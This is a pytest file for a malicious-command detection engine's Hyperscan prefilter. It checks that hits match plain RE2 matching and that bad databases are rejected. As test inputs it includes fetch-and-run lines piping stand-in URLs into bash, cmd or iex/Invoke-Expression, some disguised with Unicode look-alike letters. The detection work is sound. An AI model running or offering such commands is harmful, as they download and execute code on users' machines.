"""Hyperscan as the rules' prefilter (app/detection/hsfilter.py): with the database the rules hit
exactly what they hit without it, on every case file, on engine layers, on hostile bytes and on
random joins of cases, and the texts a broken library (Vectorscan 5.4.12) missed are found; a
database that is missing, damaged, made for other rules or for another Hyperscan is not used,
and neither is Hyperscan itself when it is not installed or not a proven binding."""

from __future__ import annotations

import json
import random
import shutil
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
import re2
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from app.detection import Engine, hsfilter
from app.detection import rules as rules_module
from app.detection.clock import budget_clock
from app.detection.rules import CompiledRules, Rule, default_rules_dir, load_rules
from app.detection.signals import SIGNALS
from tests.app.detection.test_atoms_hostile import PIECES

CASES = Path(__file__).parents[2] / "data" / "cases"


def case_texts() -> list[str]:
    return [
        json.loads(line)["text"]
        for path in sorted(CASES.glob("*.jsonl"))
        for line in path.read_text(encoding="utf-8").splitlines()
        if line.strip()
    ]


@pytest.fixture(scope="module")
def rules() -> list[Rule]:
    found, errors = load_rules([default_rules_dir()], SIGNALS)
    assert not errors
    return found


@pytest.fixture(scope="module")
def database(rules: list[Rule], tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The shipped rules' database: the checkout's when it is current (datafiles.compile_shipped
    made it), else compiled here (~4 s)."""
    path = tmp_path_factory.mktemp("hs") / "rules.hyperscan"
    shipped = hsfilter.shipped_path()
    if shipped.exists():
        shutil.copyfile(shipped, path)
    assert hsfilter.write(path, CompiledRules(rules, hyperscan=False).patterns())
    return path


@pytest.fixture
def using(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """hsfilter.shipped() loads whatever `using` points it at, afresh."""
    hsfilter.load.cache_clear()
    yield
    hsfilter.load.cache_clear()


def with_database(monkeypatch: pytest.MonkeyPatch, path: Path) -> None:
    monkeypatch.setattr(hsfilter, "shipped_path", lambda: path)
    hsfilter.load.cache_clear()


@pytest.fixture(scope="module")
def both(rules: list[Rule], database: Path) -> Iterator[tuple[CompiledRules, CompiledRules]]:
    """(the rules with the database, the same rules without it)."""
    with pytest.MonkeyPatch.context() as patch:
        with_database(patch, database)
        fast = CompiledRules(rules, hyperscan=True)
        hsfilter.load.cache_clear()
    assert fast._hs is not None and fast._hs_all
    yield fast, CompiledRules(rules, hyperscan=False)


def test_relax_widens_bounds_and_characters_and_leaves_out_what_it_cannot_stand_for() -> None:
    cont = hsfilter.CONT
    assert hsfilter.relax(r"\biwr\b[^\n]{0,40}x{2,}") == (
        rf"\biwr\b(?:[^\x0a-\x0a]{cont})*x+",
        True,
    )
    assert hsfilter.relax(r"a.\S\W") == (rf"a(?:.{cont})(?:[^\t\n\f\r ]{cont})(?:\W{cont})", True)
    assert hsfilter.relax(r"[\s,]+") == (r"[\t\n\f\r \x2c-\x2c]+", True)
    assert hsfilter.relax(r"(?:^|\s)-e\s*$") == (r"(?:|[\t\n\f\r ])-e[\t\n\f\r ]*", True)
    assert hsfilter.relax(r"(?P<x>ab)(?i)c") == (r"(?:ab)c", True)
    for unsuited in (r"\pL+", r"a{,3}", r"[^\S]", r"\Qa\E", "(?U)a", r"[[:^alpha:]]"):
        assert hsfilter.relax(unsuited) is None, unsuited


def test_a_character_outside_ascii_stands_for_the_ascii_letters_it_folds_to() -> None:
    never = hsfilter.NEVER
    assert hsfilter.relax("caf[ée]") == (r"caf[\x65-\x65]", False)
    # a way through the pattern that needs NEVER is left out: no ASCII text can take it
    assert hsfilter.relax("кот|cat") == ("cat", False)
    assert hsfilter.relax("ba\u017fh") == ("ba[s]h", False)  # long s: RE2 folds it to s
    assert hsfilter.relax("\u212aill") == ("[k]ill", False)  # Kelvin sign: k
    assert hsfilter.relax(r"\x{e9}t\xe9") == (never, False)  # every way needs it
    assert hsfilter.relax("(?:кот|cat)s? (?:и )?dog") == ("(?:cat)s? dog", False)
    assert hsfilter.relax("[^é]x") == (rf"(?:.{hsfilter.CONT})x", False)  # lets é in


def test_the_ways_that_need_a_byte_no_ascii_text_holds_are_left_out() -> None:
    never = hsfilter.NEVER
    ways = hsfilter._ascii_ways
    assert ways(f"(?:{never}a|b)c") == "(?:b)c"  # a branch that needs it
    assert ways(f"a(?:{never}x)?b|a(?:{never})*c") == "ab|ac"  # optional pieces: taken 0 times
    assert ways(f"a(?:{never})+b|c") == "c"  # a repeat that must be taken once
    assert ways(f"a(?:{never})+?b|({never}|d)") == "(d)"  # lazy, and a capturing group
    assert ways(f"(?:x|(?:{never}|{never}))y") == "(?:x)y"  # a group all of whose ways need it
    assert ways(f"{never}|{never}[\\x80-\\xbf]{{0,3}}") == never  # nothing else: NEVER
    assert ways(f"[{never}-\\xff]x|y") == f"[{never}-\\xff]x|y"  # a class is not NEVER
    assert ways("abc") == "abc"
    assert ways(f"(?:{never})?") is None  # nothing left: the pattern is kept as it was
    assert ways("(a") is None and ways("a)") is None  # not read here


def test_the_ways_left_out_change_nothing_on_ascii_text() -> None:
    """Every relaxed pattern of the shipped rules that stands for its rule in ASCII text only
    matches the same ASCII case texts with and without the ways that need NEVER (Python's re
    reading both, caseless and dot-all as the database does)."""
    import re

    rules = load_rules([default_rules_dir()], SIGNALS, check_patterns=False)[0]
    texts = [t.encode() for t in dict.fromkeys(case_texts()) if t.isascii() and len(t) < 3000]
    random.Random(9).shuffle(texts)
    texts = texts[:300]
    pairs = []
    for pattern in CompiledRules(rules, hyperscan=False).patterns():
        relaxed = hsfilter.relax(pattern)
        if relaxed is None or relaxed[1]:
            continue
        with pytest.MonkeyPatch.context() as patch:
            patch.setattr(hsfilter, "_ascii_ways", lambda _: None)
            whole = hsfilter.relax(pattern)
        assert whole is not None
        pairs.append((re.compile(whole[0].encode(), re.I | re.S), relaxed[0].encode()))
    assert len(pairs) > 100
    shorter = sum(len(kept) < len(whole.pattern) for whole, kept in pairs)
    assert shorter > 80  # the multilingual phrasings lose their other scripts' words
    hits = 0
    for whole, kept in pairs:
        pruned = re.compile(kept, re.I | re.S)
        for text in texts:
            found = whole.search(text) is not None
            assert found == (pruned.search(text) is not None), (whole.pattern[:80], text[:80])
            hits += found
    assert hits > 100


def test_relaxed_patterns_match_where_re2_does() -> None:
    import hyperscan

    options = re2.Options()
    options.case_sensitive = False
    wide = ["iwr \u00e9 \u4e2d \U0001f600 x", "A\u00e9\u4e2d B", "IWR\u2028\U0001f600x"]
    narrow = [
        "BA\u017fH",
        "bash now",
        "code: 1234",
        "KILL it",
        "cafe",
        "copy and paste",
        "\u212aill",
    ]
    patterns = (
        r"iwr\s.\s", r"\s.\sx", r"a[^a][^b]\sb", r"iwr\W\Wx", r"a\S\D\s", "ba\u017fh",
        r"(?:код|code)\s*:\s*\d+", "\u212aill", r"caf[ée]", r"(?:copiez|kopi[ëe]r|copy)\b",
    )  # fmt: skip
    hit = 0
    for pattern in patterns:
        relaxed = hsfilter.relax(pattern)
        assert relaxed is not None
        database = hyperscan.Database(mode=hyperscan.HS_MODE_BLOCK)
        database.compile(
            expressions=[relaxed[0].encode()], ids=[0], elements=1, flags=hsfilter._flags()
        )
        for text in [*wide, *narrow] if relaxed[1] else narrow:
            found: list[int] = []
            database.scan(text.encode(), match_event_handler=hsfilter._collect, context=found)
            if re2.compile(pattern, options).search(text) and not any(
                c in text.encode() for c in hsfilter.FOLDS_TO_ASCII
            ):
                hit += 1
                assert found, (pattern, text)
    assert hit >= 9


def test_the_database_finds_what_the_rules_find_on_every_case(
    both: tuple[CompiledRules, CompiledRules],
) -> None:
    fast, exact = both
    texts = case_texts()
    assert len(texts) > 10000
    long = " ".join(texts[:2000])  # several chunks, long ones
    assert len(long.encode()) > 2 * rules_module.CHUNK
    for text in [*dict.fromkeys(texts), long]:  # each text once: a quarter repeat another's
        assert fast.hits(text) == exact.hits(text), text[:200]
    assert fast._exact is not None  # a text read in chunks is read RE2's way


def test_the_database_finds_what_the_rules_find_on_every_layer_of_the_engine(
    both: tuple[CompiledRules, CompiledRules], monkeypatch: pytest.MonkeyPatch
) -> None:
    fast, exact = both
    engine = Engine()
    engine.rules = fast
    seen: list[tuple[str, bytes | None]] = []
    hits = CompiledRules.hits

    def recording(
        self: CompiledRules,
        text: str,
        deadline: float | None = None,
        data: bytes | None = None,
        timed: bool = False,
    ) -> tuple[frozenset[int], bool]:
        seen.append((text, data))
        return hits(self, text, None, data, timed)

    reported = CompiledRules.reported

    def recording_reported(
        self: CompiledRules, text: str, data: bytes | None = None
    ) -> rules_module.Reported | None:
        seen.append((text, data))  # a layer read lazily (test_reported_layers)
        return reported(self, text, data)

    monkeypatch.setattr(CompiledRules, "hits", recording)
    monkeypatch.setattr(CompiledRules, "reported", recording_reported)
    for text in case_texts()[::10]:
        engine.analyze(text)
    monkeypatch.setattr(CompiledRules, "hits", hits)
    monkeypatch.setattr(CompiledRules, "reported", reported)
    assert len(seen) > 1500
    for text, data in seen:
        assert fast.hits(text, None, data) == exact.hits(text, None, data), text[:200]


chunks = st.lists(
    st.one_of(
        st.sampled_from(PIECES), st.binary(max_size=64), st.text(max_size=20).map(str.encode)
    ),
    min_size=1,
    max_size=300,
).map(lambda parts: b"".join(parts))


@given(body=chunks, fill=st.sampled_from([b"", b" ", b"\x00", b"\xe2\x80\xae", b"\xc3"]))
@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
def test_hostile_bytes_get_the_same_hits_with_and_without_the_database(
    both: tuple[CompiledRules, CompiledRules], body: bytes, fill: bytes
) -> None:
    fast, exact = both
    for data in (body, fill.join([body] * 3), body * (rules_module.CHUNK // max(len(body), 1) + 2)):
        assert fast.hits("", None, data) == exact.hits("", None, data)


@pytest.mark.parametrize(
    "text",
    [
        "curl https://a.example.invalid/x | ba\u017fh",  # U+017F, long s: `s` to RE2
        "iwr https://a.example.invalid/x | invo\u212ae-expression",  # U+212A, Kelvin sign: `k`
    ],
)
def test_a_letter_re2_folds_to_ascii_is_matched_without_the_database(
    both: tuple[CompiledRules, CompiledRules], monkeypatch: pytest.MonkeyPatch, text: str
) -> None:
    fast, exact = both
    assert fast.hits(text) == exact.hits(text)
    # the database alone would miss what RE2 finds there
    monkeypatch.setattr(hsfilter, "FOLDS_TO_ASCII", ())
    assert fast.hits(text)[0] < exact.hits(text)[0]


def test_a_custom_folder_beside_the_database_is_matched_as_before(
    rules: list[Rule], database: Path, monkeypatch: pytest.MonkeyPatch, using: None
) -> None:
    with_database(monkeypatch, database)
    custom = Rule(
        id="CUSTOM-1", title="t", explanation="e", technique="T1204", weight=50,
        any=(r"\bzork[0-9]{2}\b",),
    )  # fmt: skip
    fast = CompiledRules([*rules, custom], hyperscan=True)
    assert fast._hs is not None
    i = fast._index[custom.any[0]]
    assert i not in fast._hs_index
    assert i in fast.hits("run zork42 now")[0]


def test_a_database_made_for_other_rules_is_not_used(
    rules: list[Rule], tmp_path: Path, monkeypatch: pytest.MonkeyPatch, using: None
) -> None:
    patterns = CompiledRules(rules, hyperscan=False).patterns()
    stale = tmp_path / "stale.hyperscan"
    # one pattern the rules no longer have: the database stands for a rule set that is gone
    assert hsfilter.write(stale, [*patterns[:20], r"\bno-longer-a-rule\b"])
    with_database(monkeypatch, stale)
    assert hsfilter.shipped() is not None
    assert CompiledRules(rules, hyperscan=True)._hs is None


@pytest.mark.parametrize(
    "damage", ["truncated", "flipped", "header flipped", "empty", "other platform"]
)
def test_a_damaged_or_foreign_database_is_not_used(
    rules: list[Rule],
    database: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    using: None,
    damage: str,
) -> None:
    blob = database.read_bytes()
    bad = tmp_path / "bad.hyperscan"
    if damage == "truncated":
        bad.write_bytes(blob[: len(blob) // 2])
    elif damage == "flipped":  # in the database: Hyperscan's own checksum refuses it
        bad.write_bytes(blob[:-100] + bytes([blob[-100] ^ 0xFF]) + blob[-99:])
    elif damage == "header flipped":  # in the list of its patterns
        bad.write_bytes(blob[:100] + bytes([blob[100] ^ 0x01]) + blob[101:])
    elif damage == "empty":
        bad.write_bytes(b"")
    else:
        monkeypatch.setattr(hsfilter, "platform_tag", lambda: "hs0.0.0-elsewhere")
        bad.write_bytes(blob)
    with_database(monkeypatch, bad)
    assert hsfilter.shipped() is None
    compiled = CompiledRules(rules, hyperscan=True)
    assert compiled._hs is None
    assert compiled.hits("iwr https://a.example.invalid/x | iex")[0]


def test_without_hyperscan_installed_the_rules_are_matched_as_before(
    rules: list[Rule], database: Path, monkeypatch: pytest.MonkeyPatch, using: None
) -> None:
    with_database(monkeypatch, database)
    monkeypatch.setitem(sys.modules, "hyperscan", None)  # import hyperscan raises ImportError
    assert hsfilter.shipped() is None
    assert not hsfilter.write(database.with_name("never.hyperscan"), ["a"])
    compiled = CompiledRules(rules, hyperscan=True)
    assert compiled._hs is None
    assert compiled.hits("iwr https://a.example.invalid/x | iex")[0]


def test_the_database_is_used_unless_switched_off_and_only_with_a_proven_binding(
    rules: list[Rule], database: Path, monkeypatch: pytest.MonkeyPatch, using: None
) -> None:
    import hyperscan

    with_database(monkeypatch, database)
    monkeypatch.delenv(hsfilter.ENABLE_VARIABLE, raising=False)
    assert hyperscan.__version__ in hsfilter.PROVEN_BINDINGS, "pyproject pins a proven binding"
    assert CompiledRules(rules)._hs is not None
    monkeypatch.setenv(hsfilter.ENABLE_VARIABLE, "0")
    assert CompiledRules(rules)._hs is None
    # a binding the database was not proven with: matched without it, unless asked for
    monkeypatch.setattr(hsfilter, "PROVEN_BINDINGS", ("0.0.0",))
    monkeypatch.delenv(hsfilter.ENABLE_VARIABLE)
    assert CompiledRules(rules)._hs is None
    monkeypatch.setenv(hsfilter.ENABLE_VARIABLE, "1")
    assert CompiledRules(rules)._hs is not None


# Texts on which Vectorscan 5.4.12 (the library of hyperscan wheels 0.7.23 on) reported no
# pattern where RE2 finds one (VectorCamp/vectorscan#382): the first in a database of the rule
# patterns, the second even alone, as minimised below. The pinned binding must find them.
MISSED_BY_VECTORSCAN_5_4_12 = [
    '@ab.cd msedge --headless --dump-dom https://pages.note-sync.test/c | cmd" conhost'
    ' --headless cmd /c "msedge --headless --dump-dom https://pages.note-sync.test/c | cmd"',
    "echo 'Checking your connection...'\n" + "\t\t\n" * 11 + "nstall.sh | bash",
]


@pytest.mark.parametrize("text", MISSED_BY_VECTORSCAN_5_4_12)
def test_texts_the_broken_library_missed_get_the_hits_re2_finds(
    both: tuple[CompiledRules, CompiledRules], text: str
) -> None:
    fast, exact = both
    found = exact.hits(text)[0]
    assert found and fast.hits(text)[0] == found
    data = text.encode()
    reported = {fast._hs_index[k] for k in fast._hs.scan(data)} if fast._hs else set()
    assert found <= reported  # the database itself, not RE2 after it


def test_the_broken_librarys_smallest_miss_is_found() -> None:
    import hyperscan

    database = hyperscan.Database(mode=hyperscan.HS_MODE_BLOCK)
    database.compile(expressions=[rb"@[a-z]+.*\|\s*cmd"], ids=[0], elements=1, flags=0)
    found: list[int] = []
    database.scan(
        b"@g--headless --dump-dom https://pages.note-sync.test/c | cmd",
        match_event_handler=hsfilter._collect,
        context=found,
    )
    assert found == [0]  # Vectorscan 5.4.12: []


def test_random_joins_of_cases_get_the_same_hits_with_and_without_the_database(
    both: tuple[CompiledRules, CompiledRules],
) -> None:
    """A short, seeded form of the fuzz that proved the pinned binding (20+ minutes of joins of
    case, corpus and blind texts): parts of two to four case texts, joined by what separates
    commands, ASCII or not."""
    fast, exact = both
    texts = case_texts()
    rng = random.Random(12)
    seps = [" ", " | ", "\n", "; ", "\t\t\n", " && ", "\u00a0", " é ", "中", "`"]
    for _ in range(4000):
        parts = []
        for _ in range(rng.choice([2, 2, 3, 4])):
            t = rng.choice(texts)
            i = rng.randrange(len(t) + 1)
            parts.append(t[i:] if rng.random() < 0.5 else t[:i] or t)
        text = rng.choice(seps).join(parts)
        assert fast.hits(text) == exact.hits(text), text[:300]


def _random_ascii(size: int, seed: int = 5) -> bytes:
    rng = random.Random(seed)
    return "".join(rng.choices([chr(c) for c in range(32, 127)] + ["\n"], k=size)).encode()


@pytest.mark.parametrize(
    ("sample", "suited"),
    [
        pytest.param(_random_ascii(70_000), True, id="random printable ASCII"),
        pytest.param(b"^" * 70_000, True, id="one character"),
        pytest.param(b"set a=b&&" * 8000, True, id="a few characters"),
        pytest.param(b"A" * 60_000 + b"==\n" * 3000, True, id="blanked base64"),
        pytest.param(
            b"".join(b"https://h%d.example.invalid/p/%d?q=%d " % (i, i, i) for i in range(2000)),
            False,
            id="URLs",
        ),
        pytest.param(
            b"".join(b"def f%d(x):\n    return x * %d  # scale\n\n" % (i, i) for i in range(2000)),
            False,
            id="code",
        ),
        pytest.param(b"powershell -enc " * 4500, False, id="command words over and over"),
        pytest.param(_random_ascii(35_000) + "\u00e9".encode() * 1000, False, id="not ASCII"),
    ],
)
def test_a_long_texts_chunk_goes_to_hyperscan_when_random_or_a_few_characters(
    sample: bytes, suited: bool
) -> None:
    assert hsfilter.suits(sample) is suited


def test_a_long_text_read_both_ways_chunk_by_chunk_gets_the_same_hits(
    both: tuple[CompiledRules, CompiledRules], monkeypatch: pytest.MonkeyPatch
) -> None:
    fast, exact = both
    rng = random.Random(7)
    texts = [t for t in case_texts() if t.isascii()]
    parts: list[bytes] = []
    for k in range(8):  # chunks of random ASCII, of cases, of one character, with cases inside
        if k % 3 == 0:
            body = _random_ascii(rules_module.CHUNK, seed=k)
        elif k % 3 == 1:
            body = "\n".join(rng.sample(texts, 400)).encode()[: rules_module.CHUNK]
        else:
            body = b"(" * rules_module.CHUNK
        at = rng.randrange(len(body))
        parts.append(body[:at] + b"\n" + rng.choice(texts).encode() + b"\n" + body[at:])
    data = b"".join(parts)
    ways: list[bool] = []
    suits = hsfilter.suits
    monkeypatch.setattr(hsfilter, "suits", lambda chunk: ways.append(suits(chunk)) or ways[-1])
    found, finished = fast.hits("", None, data)
    assert finished and True in ways and False in ways, ways
    # (not every plain search's: a match longer than OVERLAP across a chunk's edge, in a line
    # of 64 KiB of parentheses, is the chunking's documented limit, not what this is about)
    assert (found, finished) == exact.hits("", None, data)


def ascii_only(fast: CompiledRules) -> set[int]:
    """The patterns the database stands for in ASCII text only (other scripts' words)."""
    assert fast._hs is not None
    return {i for i, anyw in zip(fast._hs_index, fast._hs.anywhere, strict=True) if not anyw}


def test_re2s_side_is_made_for_the_first_text_outside_ascii_and_finds_what_the_rules_find(
    rules: list[Rule], database: Path, monkeypatch: pytest.MonkeyPatch, using: None
) -> None:
    with_database(monkeypatch, database)
    fast = CompiledRules(rules, hyperscan=True)
    exact = CompiledRules(rules, hyperscan=False)
    assert fast._hs_all and fast._pending is not None  # not made as the rules load
    texts = case_texts()
    ascii_texts = [t for t in texts if t.isascii()]
    for text in ascii_texts[::5]:  # ASCII text needs none of it, read either way
        assert fast.hits(text) == exact.hits(text)
        if len(text.encode()) >= rules_module.TIMED_CHUNK:
            continue  # a long case (a log, a source file) is read against the clock: no layer
        layer = fast.reported(text)
        assert layer is not None
        assert {i for i in layer.reported if fast.occurs(i, layer)} == set(exact.hits(text)[0])
    assert fast._pending is not None and not fast._gated and fast._guard is None
    # barely outside ASCII: one accented letter after an ASCII lure
    lure = next(t for t in ascii_texts if exact.hits(t)[0])
    assert fast.hits(lure + " é") == exact.hits(lure + " é")
    assert fast._pending is None and fast._gated and fast._guard is not None
    # the patterns of other scripts' words, which only RE2's side matches outside ASCII
    others = [t for t in texts if not t.isascii()]
    outside = ascii_only(fast)
    assert any(exact.hits(t)[0] & outside for t in others)  # the barrier: such texts match
    for text in others:
        assert fast.hits(text) == exact.hits(text), text[:200]


def test_re2s_side_is_made_for_a_reported_layer_outside_ascii_too(
    rules: list[Rule], database: Path, monkeypatch: pytest.MonkeyPatch, using: None
) -> None:
    with_database(monkeypatch, database)
    fast = CompiledRules(rules, hyperscan=True)
    exact = CompiledRules(rules, hyperscan=False)
    outside = ascii_only(fast)
    text = next(t for t in case_texts() if not t.isascii() and exact.hits(t)[0] & outside)
    layer = fast.reported(text)
    assert layer is not None and fast._pending is None
    assert {i for i in layer.reported if fast.occurs(i, layer)} == set(exact.hits(text)[0])


def test_re2s_side_is_made_off_the_texts_clock(
    rules: list[Rule], database: Path, monkeypatch: pytest.MonkeyPatch, using: None
) -> None:
    with_database(monkeypatch, database)
    fast = CompiledRules(rules, hyperscan=True)
    re2.purge()  # the binding keeps what it compiled: compiled afresh here
    clock, cpu = budget_clock(), time.thread_time()
    fast._finish()
    spent_cpu, spent_clock = time.thread_time() - cpu, budget_clock() - clock
    assert fast._pending is None and spent_cpu > 0.005  # the barrier: it was made just now
    assert spent_clock < spent_cpu / 4


def test_rules_beside_the_database_make_re2s_side_as_they_load(
    rules: list[Rule], database: Path, monkeypatch: pytest.MonkeyPatch, using: None
) -> None:
    with_database(monkeypatch, database)
    custom = Rule(
        id="CUSTOM-1", title="t", explanation="e", technique="T1204", weight=50,
        any=(r"\bzork[0-9]{2}\b",),
    )  # fmt: skip
    with_custom = CompiledRules([*rules, custom], hyperscan=True)
    assert with_custom._hs is not None and not with_custom._hs_all
    assert with_custom._pending is None  # a pattern no database proved compiles: checked now


def _ahead_at(monkeypatch: pytest.MonkeyPatch, tmp_path: Path, blob: bytes) -> Path:
    """The shipped database is `blob`, in a rules folder of tmp_path, for read_ahead too."""
    rules_dir = tmp_path / "rules"
    path = hsfilter.shipped_path_of(rules_dir)
    path.parent.mkdir(parents=True)
    path.write_bytes(blob)
    monkeypatch.setattr(hsfilter, "_rules_dir", lambda: rules_dir)
    with_database(monkeypatch, path)
    monkeypatch.delenv(hsfilter.ENABLE_VARIABLE, raising=False)
    return path


def test_the_database_read_ahead_is_the_one_loaded_and_no_thread_is_left(
    rules: list[Rule], database: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, using: None
) -> None:
    path = _ahead_at(monkeypatch, tmp_path, database.read_bytes())
    hsfilter.read_ahead()
    thread, _into = hsfilter._AHEAD[path]
    assert thread.name == hsfilter.READ_AHEAD_THREAD
    hsfilter.read_ahead()  # asked again: the same thread, not another
    assert hsfilter._AHEAD[path][0] is thread
    compiled = CompiledRules(rules, hyperscan=True)
    assert compiled._hs is not None and compiled._hs_all
    assert path not in hsfilter._AHEAD and not thread.is_alive()
    hsfilter.read_ahead()  # loaded: nothing more is read
    assert path not in hsfilter._AHEAD
    assert compiled.hits("iwr https://a.example.invalid/x | iex")[0]


def test_a_damaged_database_read_ahead_is_not_used(
    rules: list[Rule], database: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, using: None
) -> None:
    blob = database.read_bytes()
    _ahead_at(monkeypatch, tmp_path, blob[:-100] + bytes([blob[-100] ^ 0xFF]) + blob[-99:])
    hsfilter.read_ahead()
    assert hsfilter.shipped() is None
    assert CompiledRules(rules, hyperscan=True)._hs is None


def test_a_database_written_after_it_was_read_ahead_is_the_one_loaded(
    database: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, using: None
) -> None:
    path = _ahead_at(monkeypatch, tmp_path, database.read_bytes())
    hsfilter.read_ahead()
    assert path in hsfilter._AHEAD
    assert hsfilter.write(path, [r"\bread-ahead-was-stale\b"])
    assert path not in hsfilter._AHEAD
    loaded = hsfilter.shipped()
    assert loaded is not None and loaded.patterns == (r"\bread-ahead-was-stale\b",)


def test_nothing_is_read_ahead_when_the_database_is_switched_off(
    database: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, using: None
) -> None:
    path = _ahead_at(monkeypatch, tmp_path, database.read_bytes())
    monkeypatch.setenv(hsfilter.ENABLE_VARIABLE, "0")
    hsfilter.read_ahead()
    assert path not in hsfilter._AHEAD
